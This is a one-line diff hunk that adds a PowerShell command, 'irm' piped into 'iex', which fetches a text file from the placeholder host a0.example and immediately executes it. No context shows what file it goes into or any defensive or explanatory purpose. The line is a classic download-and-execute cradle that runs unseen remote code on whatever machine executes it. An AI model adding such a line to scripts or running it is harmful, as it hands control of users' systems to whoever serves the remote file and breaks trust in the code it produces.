@@ -1,0 +1,1 @@
+irm a0.example/p.txt|iex
